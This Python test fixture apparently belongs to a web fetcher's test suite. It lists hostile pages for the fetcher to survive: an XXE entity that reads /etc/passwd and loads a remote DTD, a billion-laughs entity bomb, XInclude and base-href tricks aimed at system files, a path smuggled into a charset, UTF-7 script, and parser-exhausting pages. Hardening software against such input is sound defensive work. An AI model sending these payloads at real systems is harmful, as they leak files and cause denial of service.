"""Pages that want more than to be read."""

from tests.fetching.hostile.case import READ, a

SECRET = "root:"
XXE = '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://192.0.2.1/x.dtd"> %y;]>'
SCRIPT = b"<script>alert(1)</script>"


def page(inner: str, head: str = "") -> bytes:
    """An HTML page."""
    return f"<!doctype html><html><head>{head}</head><body>{inner}</body></html>".encode()


def nested(tag: str, times: int) -> bytes:
    """An element in itself so many times."""
    return page(f"<{tag}>" * times + "deep" + f"</{tag}>" * times)


def laughing() -> bytes:
    """XHTML with a thousand million laughs."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return f"<?xml version='1.0'?><!DOCTYPE html [{lines}]><html><body><p>&l9;</p></body></html>".encode()


PAGES = (
    a("page 100,000 deep", lambda: nested("div", 100_000), READ, "more than 256 deep"),
    a("page of tables 3,000 deep", lambda: nested("table><tr><td", 3000), READ),
    a("page of bold letters 200,000 deep", lambda: nested("b", 200_000), READ),
    a("page of 200,000 elements", lambda: page("<i>x</i>" * 100_000), "read or too-slow"),
    a("page of 6,000 paragraphs", lambda: page("<p>x y z</p>" * 6_000), "read or too-slow"),
    a(
        "page of 300,000 attributes",
        lambda: page(f"<p {' '.join(f'a{n}=1' for n in range(300_000))}>x</p>"),
        "read or too-slow",
    ),
    a("page of tags that never close", lambda: page("<a " * 500_000), "read or too-slow"),
    a("page of angle brackets", lambda: page("<" * 2_000_000), "read"),
    a("page of a comment that never ends", lambda: page("<!--" + "-" * 2_000_000), READ),
    a(
        "page with an attribute of 12 million letters",
        lambda: page(f'<p title="{"x" * 12_000_000}">x</p>'),
        "read or broken",
    ),
    a("page with a word of 12 million letters", lambda: page("<p>" + "x" * 12_000_000), READ, "is left out"),
    a("page of a million entities", lambda: page("<p>" + "&amp;" * 1_000_000), READ),
    a("page of letters that are none", lambda: page("<p>&#xD800;&#0;&#xFFFE;&#x110000;&#99999999999999;x"), READ),
    a("page that reads a file", lambda: (XXE + "<html><body><p>&x;</p></body></html>").encode(), READ),
    a(
        "page of XHTML that reads a file",
        lambda: (
            "<?xml version='1.0'?>" + XXE + "<html xmlns='http://www.w3.org/1999/xhtml'><body><p>&x;</p></body></html>"
        ).encode(),
        READ,
        "",
        "application/xhtml+xml",
    ),
    a("page of laughs", laughing, READ, "", "application/xhtml+xml"),
    a(
        "page with a base on the disk",
        lambda: page(
            "<iframe src='/etc/passwd'></iframe><object data='file:///etc/passwd'>o</object><p>x",
            "<base href='file:///etc/'><link rel=import href=passwd>",
        ),
        READ,
    ),
    a(
        "page that includes others by XInclude",
        b"<html xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/>"
        b"<p>x</html>",
        READ,
    ),
    a("page in UTF-7", lambda: page("+ADw-script+AD4-", "<meta charset=utf-7>"), READ),
    a("page in an encoding of no letters", b"<p>x", READ, "", "text/html; charset=zlib_codec"),
    a(
        "page in an encoding that works for long",
        lambda: page("<p>" + "a" * 1_000_000),
        READ,
        "",
        "text/html; charset=punycode",
    ),
    a("page in an encoding with a path in it", b"<p>x", READ, "", "text/html; charset=../../etc/passwd"),
    a("page of scripts alone", lambda: page("<script>while(1){}</script>" * 1000), READ, "no text on the page"),
    a("page of nothing", b"<!doctype html>", "read or empty"),
    a("page cut in the middle of a letter", "<!doctype html><meta charset=utf-8><p>…".encode()[:-1], READ),
    a("page with noughts", page("<p>a\0b\0</p>"), READ),
    a(
        "page of half a UTF-16 letter",
        b"\xff\xfe" + "<!doctype html><p>x\ud83d".encode("utf-16-le", "surrogatepass") + b"\xd8",
        READ,
    ),
)
